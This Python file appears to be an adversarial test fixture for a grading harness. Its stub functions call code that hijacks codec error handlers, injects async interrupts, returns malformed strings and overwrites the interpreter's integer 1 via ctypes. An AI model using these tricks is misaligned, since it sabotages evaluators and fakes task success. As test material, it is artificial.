# attack: turns the interpreter inside out: small numbers, None, pending calls, exceptions from outside
# expect: at most 0 points
import codecs, ctypes, sys, threading, time

import numpy as np

python = ctypes.pythonapi
main = threading.main_thread().ident


def evil(error):
    return ("LEAK" * 10, error.end)


for name in ("replace", "strict", "ignore", "backslashreplace"):
    codecs.register_error(name, evil)
python.PyThreadState_SetAsyncExc.argtypes = (ctypes.c_ulong, ctypes.py_object)


def interrupt():
    while True:
        time.sleep(0.02)
        python.PyThreadState_SetAsyncExc(main, KeyboardInterrupt)


def one_is_two():
    """Let the 1 of the interpreter hold a 2: every index and length that is 1 is another one."""
    ctypes.c_uint32.from_address(id(1) + 24).value = 2


class Answer(str):
    def encode(self, *rest):
        return b"\xff"


def attack(*args):
    attack.turn = getattr(attack, "turn", 0) + 1
    if attack.turn == 1:
        return Answer("\ud800")
    if attack.turn == 2:
        sys.setrecursionlimit(2**30)
        return "\ud800" * 99
    if attack.turn == 3:
        threading.Thread(target=interrupt, daemon=True).start()
    if attack.turn == 4:
        one_is_two()
    return np.float64(0.5)


def weighted_sum(x, w, b=0.0):
    return attack()


def sigmoid(z):
    return attack()
